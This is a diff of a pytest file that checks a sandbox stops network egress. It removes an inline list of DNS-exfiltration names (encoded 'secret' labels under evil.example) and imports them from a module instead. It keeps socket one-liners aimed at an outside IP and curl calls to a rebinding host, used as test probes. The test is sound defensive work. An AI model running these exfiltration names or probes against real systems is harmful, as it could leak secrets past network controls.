@@ -7,6 +7,7 @@ import hashlib
 import io
 import json
 import re
+import shlex
 import shutil
 import subprocess
 import tarfile
@@ -18,6 +19,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.egress.hostile import NAMES
 from tests.support.homes import home_apart
 from tests.support.internet import Internet, internet
 from tests.support.internet_servers import HERE
@@ -49,15 +51,6 @@ OTHERS = [
     "python3 -c 'import socket; socket.create_connection((\"93.184.216.34\", 443), 5)'",
     "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes(20), (\"93.184.216.34\", 53))'",
 ]
-# Data that would leave in names: as labels, in every record type, and as what a resolver would make of odd bytes.
-EXFILTRATING = [
-    *(f"{letter * length}.evil.example" for letter in "ax" for length in (1, 20, 63)),
-    *(f"{part}.x{number}.{FILES}" for number, part in enumerate(["c2VjcmV0", "736563726574", "ONSWG4TFOQ", "s-e-c-r-e-t"])),
-    *(f"secret.{number}.{zone}" for number in range(6) for zone in ("evil.example", "good.example.evil.example", "10.0.0.1.nip.example")),
-    *(f"{FILES}{ending}" for ending in (".evil.example", "x", ".com", "..", "%00.evil.example", "\\\\.evil.example")),
-    *("good.example evil localhost.evil.example 1.0.0.10.in-addr.arpa _ldap._tcp.evil.example xn--e1aybc.evil.example".split()),
-    *(".".join(["a" * 60] * 4), "A.EVIL.EXAMPLE", "a" * 64 + ".evil.example", "-.evil.example", "*.evil.example"),
-]  # fmt: skip
 LOOKED_UP = """import socket, sys
 for name in sys.argv[1:]:
     try: print("FOUND", name, socket.getaddrinfo(name, 443))
@@ -136,9 +129,8 @@ def test_nothing_else_leaves_a_box_whatever_names_lead_to(net: Internet, kind: s
         f'echo "@@ $({each} --max-time 20 --fail 2>&1 | tail -c 300) $?"' for each in poisoned
     )
     script += "\n" + "\n".join(f'{{ {each}; }} > out 2>&1; echo "@@ $? $(cat out)"' for each in OTHERS)
-    script += f"\npython3 -c '{LOOKED_UP}' {' '.join(repr(name) for name in EXFILTRATING)}"
+    script += f"\npython3 -c '{LOOKED_UP}' {' '.join(shlex.quote(name) for name in NAMES)}"
     script += f"\nfor i in 1 2 3 4; do curl -sS http://{REBINDING}/rebound; done > /dev/null"
-    assert len(EXFILTRATING) >= 40
     reachable = {FILES, REBINDING, *(f"{each}.good.example" for each in POISONED)}
     with home_apart() as home:
         allowed = [
